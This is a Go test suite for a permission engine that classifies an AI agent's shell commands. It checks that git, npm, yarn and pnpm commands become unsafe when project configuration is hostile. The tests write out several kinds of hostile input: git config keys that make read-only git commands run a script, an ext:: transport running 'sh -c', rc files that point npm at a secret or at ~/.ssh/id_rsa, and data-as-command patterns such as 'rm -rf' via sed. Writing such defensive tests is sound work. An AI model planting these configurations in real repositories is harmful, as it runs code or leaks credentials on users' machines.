package engine_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/permopa/permopa/engine"
	"github.com/permopa/permopa/permission"
	"github.com/permopa/permopa/settings"
)

// hostileScript writes an executable script that records each run in log.
func hostileScript(t *testing.T, p, log string) {
	t.Helper()
	body := "#!/bin/sh\necho \"$0 $*\" >> " + log + "\nexec timeout 2 cat\n"
	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
}

func writeModeFile(t *testing.T, p, body string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
}

// committedRepository makes, with the real git, a repository of two
// committed files a and b, for the cases to copy (a copy's index holds
// stale stat data, which git status refreshes: it writes the index).
func committedRepository(t *testing.T) string {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := filepath.Join(root, "w")
	if err := os.MkdirAll(filepath.Join(root, "home"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(w, 0o755); err != nil {
		t.Fatal(err)
	}
	runGit(t, root, w, "init", "-q")
	writeModeFile(t, filepath.Join(w, "a"), "one\n", 0o644)
	writeModeFile(t, filepath.Join(w, "b"), "same\n", 0o644)
	runGit(t, root, w, "add", "a", "b")
	runGit(t, root, w, "-c", "user.name=x", "-c", "user.email=x@example.com", "commit", "-qm", "a")
	return w
}

// A project that arrives with its own .git (a tarball, a shared volume, a
// devcontainer) decides what git runs on commands that only read. Each
// class is first run with the real git (the hostile file does run the
// fixture script), then decided: no read-only verdict in any mode, and a
// safety ASK under allow rules for the very commands (issue 23).
func TestHostileRepositoryConfigIsNotReadOnly(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	type hostile struct {
		name  string
		setup func(t *testing.T, w, evil string)
		// real is a git command that runs the fixture for real ("" when
		// git runs it only on a terminal: the pager).
		real string
	}
	appendConfig := func(body string) func(t *testing.T, w, evil string) {
		return func(t *testing.T, w, evil string) {
			f, err := os.OpenFile(filepath.Join(w, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if _, err := f.WriteString(strings.ReplaceAll(body, "EVIL", evil)); err != nil {
				t.Fatal(err)
			}
		}
	}
	cases := []hostile{
		{"core.fsmonitor", appendConfig("[core]\n\tfsmonitor = EVIL\n"), "status"},
		{"diff.external", appendConfig("[diff]\n\texternal = EVIL\n"), "diff"},
		{"textconv driver", func(t *testing.T, w, evil string) {
			appendConfig("[diff \"x\"]\n\ttextconv = EVIL\n")(t, w, evil)
			writeModeFile(t, filepath.Join(w, ".gitattributes"), "* diff=x\n", 0o644)
		}, "log -p"},
		{"diff driver command", func(t *testing.T, w, evil string) {
			appendConfig("[diff \"y\"]\n\tcommand = EVIL\n")(t, w, evil)
			writeModeFile(t, filepath.Join(w, ".git/info/attributes"), "* diff=y\n", 0o644)
		}, "diff"},
		{"clean filter", func(t *testing.T, w, evil string) {
			appendConfig("[filter \"f\"]\n\tclean = EVIL\n")(t, w, evil)
			writeModeFile(t, filepath.Join(w, ".gitattributes"), "* filter=f\n", 0o644)
		}, "diff"},
		{"post-index-change hook", func(t *testing.T, w, evil string) {
			writeModeFile(t, filepath.Join(w, ".git/hooks/post-index-change"), "#!/bin/sh\nexec "+evil+"\n", 0o755)
		}, "status"},
		{"core.hooksPath", func(t *testing.T, w, evil string) {
			appendConfig("[core]\n\thooksPath = h2\n")(t, w, evil)
			writeModeFile(t, filepath.Join(w, "h2/post-index-change"), "#!/bin/sh\nexec "+evil+"\n", 0o755)
		}, "status"},
		{"include.path", func(t *testing.T, w, evil string) {
			appendConfig("[include]\n\tpath = ../inc.cfg\n")(t, w, evil)
			writeModeFile(t, filepath.Join(w, "inc.cfg"), "[core]\n\tfsmonitor = \""+evil+"\"\n", 0o644)
		}, "status"},
		{"includeIf, nested", func(t *testing.T, w, evil string) {
			appendConfig("[includeIf \"gitdir:/\"]\n\tpath = ../a.cfg\n")(t, w, evil)
			writeModeFile(t, filepath.Join(w, "a.cfg"), "[include]\n\tpath = b.cfg\n", 0o644)
			writeModeFile(t, filepath.Join(w, "b.cfg"), "[Diff]\n\tExternal = "+evil+"\n", 0o644)
		}, "diff"},
		{"old subsection syntax, continuation", appendConfig("[diff.z]\n\ttextc\\\nonv = EVIL\n"), ""},
		{"core.pager", appendConfig("[core]\n\tpager = EVIL\n"), ""},
		{"ext:: transport", appendConfig("[protocol \"ext\"]\n\tallow = always\n[remote \"o\"]\n\turl = ext::sh -c EVIL\n"), "ls-remote o"},
		{"pager.log", appendConfig("[pager]\n\tlog = EVIL\n"), ""},
		{"gpg.program", appendConfig("[gpg]\n\tprogram = EVIL\n"), ""},
		{"core.worktree", appendConfig("[core]\n\tworktree = ../../home\n"), ""},
		{"unparseable", appendConfig("[core\n\tfsmonitor = EVIL\n"), ""},
	}
	// The quick suite runs the real git once, for the first case that runs
	// the fixture (the mechanism: git runs what the configuration names),
	// and decides each case's commands in a fixed third of them, every
	// command in a third of the cases; -tags slow runs every case in full,
	// the real git for every case that names a command.
	ranReal := false
	template := committedRepository(t)
	for i, c := range cases {
		runReal := c.real != "" && (slowTests || !ranReal)
		ranReal = ranReal || runReal
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			root, err := filepath.EvalSymlinks(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			home, w := filepath.Join(root, "home"), filepath.Join(root, "w")
			if err := os.MkdirAll(home, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.CopyFS(w, os.DirFS(template)); err != nil {
				t.Fatal(err)
			}
			log, evil := filepath.Join(root, "ran.log"), filepath.Join(root, "evil.sh")
			hostileScript(t, evil, log)

			ctx := context.Background()
			eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: w,
				Rules: []permission.Rule{mustRule(t, "Bash(git status:*)"), mustRule(t, "Bash(git diff:*)"),
					mustRule(t, "Bash(git log:*)"), mustRule(t, "Bash(git show:*)"), mustRule(t, "Bash(git blame:*)"),
					mustRule(t, "Bash(git grep:*)")}}))
			if err != nil {
				t.Fatal(err)
			}
			decide := func(cmd, mode string) permission.Decision {
				return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
					"cwd": w, "permission_mode": mode})
			}
			// Before: the plain repository is read-only.
			if d := decide("git status", "plan"); d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
				t.Fatalf("plain repository: git status: %s/%s (%s), want read-only", d.Behavior, d.Step, d.Message)
			}
			c.setup(t, w, evil)
			if runReal {
				writeModeFile(t, filepath.Join(w, "a"), "two\n", 0o644)
				// b unchanged but with a new time: git status refreshes its
				// stat data and so writes the index (the read-time hooks run
				// on that write). A changed a alone writes it only while its
				// entry is racily clean: in the second of the commit.
				later := time.Now().Add(3 * time.Second)
				if err := os.Chtimes(filepath.Join(w, "b"), later, later); err != nil {
					t.Fatal(err)
				}
				// With a deadline: a transport helper waits on its pipe.
				ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
				cmd := exec.CommandContext(ctx, "git", strings.Fields(c.real)...)
				cmd.Dir, cmd.Stdin = w, nil
				cmd.Env = append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
				cmd.WaitDelay = time.Second
				_ = cmd.Run()
				cancel()
				if _, err := os.Stat(log); err != nil {
					t.Fatalf("real git %s did not run the fixture: the case proves nothing", c.real)
				}
			}
			for j, cmd := range []string{"git status", "git diff", "git log -p", "git show", "git blame a",
				"git grep --textconv one", "cd " + w + " && git log --oneline", "git --git-dir=.git log", "git -C " + w + " status", "git ls-remote o", "git remote show o"} {
				if !slowTests && (i+j)%3 != 0 {
					continue
				}
				if d := decide(cmd, "plan"); d.Behavior == permission.Allow {
					t.Errorf("plan: %q: ALLOW (%s/%s)", cmd, d.Step, d.Message)
				}
				if d := decide(cmd, "default"); d.Behavior != permission.Ask || !d.BypassImmune {
					t.Errorf("default, allow rules: %q: %s/%s (%s), want a safety ASK", cmd, d.Behavior, d.Step, d.Message)
				}
				if d := decide(cmd, "acceptEdits"); d.Behavior == permission.Allow {
					t.Errorf("acceptEdits: %q: ALLOW (%s/%s)", cmd, d.Step, d.Message)
				}
			}
		})
	}
}

// What stays read-only: a repository whose configuration names no program
// (the keys git init, clone and everyday use write; fsmonitor off or git's
// own daemon; a hooks directory with only the samples and the hooks that
// run on writes).
func TestPlainRepositoryConfigStaysReadOnly(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, w := filepath.Join(root, "home"), filepath.Join(root, "w")
	for _, d := range []string{home, filepath.Join(w, "src")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	runGit(t, root, w, "init", "-q")
	f, err := os.OpenFile(filepath.Join(w, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("[remote \"origin\"]\n\turl = https://example.com/r.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n" +
		"[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[user]\n\tname = \"A \\\"B\\\" C\" ; comment\n" +
		"[core]\n\tfsmonitor = false\n\thooksPath = .husky/_\n[diff]\n\tcolorMoved = zebra\n[alias]\n\tst = status\n")
	f.Close()
	writeModeFile(t, filepath.Join(w, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 1\n", 0o755)
	writeModeFile(t, filepath.Join(w, ".husky/_/pre-commit"), "#!/bin/sh\nexit 1\n", 0o755)
	writeModeFile(t, filepath.Join(w, ".gitattributes"), "*.png binary\n* diff=x\n", 0o644)
	eng, err := newEngine(context.Background(), engine.WithSettings(settings.Settings{Home: home, Cwd: w}))
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"git status", "git diff", "git log -p", "cd src && git show", "git -C src blame x"} {
		d := eng.Decide(context.Background(), map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": w, "permission_mode": "plan"})
		if d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
			t.Errorf("plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
		}
	}
}

// Under a tool-wide Bash allow rule, a program that runs its data as a
// command is a safety ASK, as eval of a run-time string is (issue 23).
func TestRunsDataAsksUnderToolWideAllow(t *testing.T) {
	t.Parallel()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := filepath.Join(root, "w")
	if err := os.MkdirAll(w, 0o755); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: filepath.Join(root, "home"), Cwd: w,
		Rules: []permission.Rule{mustRule(t, "Bash")}}))
	if err != nil {
		t.Fatal(err)
	}
	decide := func(cmd string) permission.Decision {
		return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": w, "permission_mode": "default"})
	}
	for _, cmd := range []string{
		`eval "$X"`,
		`sed 's/.*/rm -rf x/e' f`,
		`sed e f`,
		`awk '{system($0)}' f`,
		`awk '{print | "sh"}' f`,
		`xargs sh -c`,
		`find . -exec sh -c '{}' \;`,
		`ls | xargs -I{} bash -c 'echo {}'`,
	} {
		if d := decide(cmd); d.Behavior != permission.Ask || !d.BypassImmune {
			t.Errorf("%q: %s/%s (%s), want a safety ASK", cmd, d.Behavior, d.Step, d.Message)
		}
	}
	for _, cmd := range []string{`sed 's/a/b/' f`, `sed '1e date' f`, `awk '{print $1}' f`, `find . -exec sh -c 'cat "$1"' _ {} \;`} {
		if d := decide(cmd); d.Behavior != permission.Allow {
			t.Errorf("%q: %s/%s (%s), want ALLOW", cmd, d.Behavior, d.Step, d.Message)
		}
	}
}

// yarn, npm and pnpm read rc files from the project and every directory
// above it: a read-only subcommand there is read-only only when nothing in
// them runs code or names another file. The npm case is run with the real
// npm first: a project .npmrc's userconfig makes "npm ls" print the lines
// of any file (issue 23).
func TestHostilePackageManagerConfigIsNotReadOnly(t *testing.T) {
	t.Parallel()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, p := filepath.Join(root, "home"), filepath.Join(root, "p")
	sub := filepath.Join(p, "packages", "a")
	writeModeFile(t, filepath.Join(sub, "package.json"), `{"name": "a", "version": "1.0.0"}`, 0o644)
	writeModeFile(t, filepath.Join(p, "package.json"), `{"name": "p", "version": "1.0.0"}`, 0o644)
	secret := filepath.Join(root, "planted-secret")
	writeModeFile(t, secret, "PLANTEDSECRET\n", 0o600)
	// The real npm ls prints the file the project's userconfig names; the
	// quick suite's real npm run that a project's .npmrc steers is
	// TestProjectNpmrcCannotSendEnvironmentElsewhere's, this one runs with
	// -tags slow (.ci/run).
	if _, err := exec.LookPath("npm"); err == nil && slowTests {
		writeModeFile(t, filepath.Join(p, ".npmrc"), "userconfig="+secret+"\n", 0o644)
		cmd := exec.Command("npm", "ls")
		cmd.Dir = p
		cmd.Env = append(os.Environ(), "HOME="+home, "npm_config_cache="+filepath.Join(root, "cache"), "npm_config_update_notifier=false")
		out, _ := cmd.CombinedOutput()
		if !strings.Contains(string(out), "PLANTEDSECRET") {
			t.Fatalf("real npm ls did not print the file userconfig names: the case proves nothing\n%s", out)
		}
		os.Remove(filepath.Join(p, ".npmrc"))
	}
	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: p,
		Rules: []permission.Rule{mustRule(t, "Bash(npm ls:*)"), mustRule(t, "Bash(yarn list:*)"), mustRule(t, "Bash(yarn why:*)"),
			mustRule(t, "Bash(pnpm list:*)"), mustRule(t, "Bash(npm view:*)")}}))
	if err != nil {
		t.Fatal(err)
	}
	decide := func(cmd, mode string) permission.Decision {
		return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": p, "permission_mode": mode})
	}
	plain := []string{"npm ls", "yarn list", "yarn why lodash", "yarn info lodash", "pnpm list", "cd packages/a && npm ls"}
	for _, cmd := range plain {
		if d := decide(cmd, "plan"); d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
			t.Errorf("plain project: plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
		}
	}
	// In acceptEdits the agent can write an rc file and run the program,
	// in one call or in two: neither runs it under a read-only verdict.
	for _, cmd := range []string{
		`echo 'yarn-path "./evil.js"' > .yarnrc && yarn list`,
		`printf 'yarnPath: ./evil.cjs\n' > .yarnrc.yml; yarn why x`,
		`echo userconfig=` + secret + ` > .npmrc && npm ls`,
	} {
		if d := decide(cmd, "acceptEdits"); d.Behavior == permission.Allow {
			t.Errorf("acceptEdits: %q: ALLOW (%s/%s)", cmd, d.Step, d.Message)
		}
	}
	for _, c := range []struct {
		file, body string
		cmds       []string
	}{
		{".yarnrc", "yarn-path \"./evil.js\"\n", []string{"yarn list", "yarn why lodash", "yarn info lodash", "cd packages/a && yarn list"}},
		{"../.yarnrc", "yarn-path /tmp/evil.js\n", []string{"yarn list"}},
		{".yarnrc.yml", "yarnPath: ./evil.cjs\n", []string{"yarn list", "yarn why x"}},
		{".yarnrc.yml", "plugins:\n  - ./evil.cjs\n", []string{"yarn info x"}},
		{"package.json", `{"packageManager": "yarn@https://example.com/evil.tgz"}`, []string{"yarn list"}},
		{".npmrc", "userconfig=" + secret + "\n", []string{"npm ls", "npm view x", "cd packages/a && npm ls", "pnpm list"}},
		{".npmrc", "globalconfig=~/.ssh/id_rsa\n", []string{"npm ls"}},
		{".npmrc", "logs-dir=/tmp/elsewhere\n", []string{"npm ls"}},
		{".pnpmfile.cjs", "module.exports = {}\n", []string{"pnpm list"}},
	} {
		f := filepath.Join(p, c.file)
		old, hadOld := os.ReadFile(f)
		writeModeFile(t, f, c.body, 0o644)
		for _, cmd := range c.cmds {
			if d := decide(cmd, "acceptEdits"); d.Behavior == permission.Allow {
				t.Errorf("%s: acceptEdits: %q: ALLOW (%s)", c.file, cmd, d.Message)
			}
			if d := decide(cmd, "plan"); d.Behavior == permission.Allow {
				t.Errorf("%s: plan: %q: ALLOW (%s)", c.file, cmd, d.Message)
			}
			if d := decide(cmd, "default"); d.Behavior != permission.Ask || !d.BypassImmune {
				t.Errorf("%s: default, allow rules: %q: %s/%s (%s), want a safety ASK", c.file, cmd, d.Behavior, d.Step, d.Message)
			}
		}
		if hadOld == nil {
			writeModeFile(t, f, string(old), 0o644)
		} else {
			os.Remove(f)
		}
	}
}
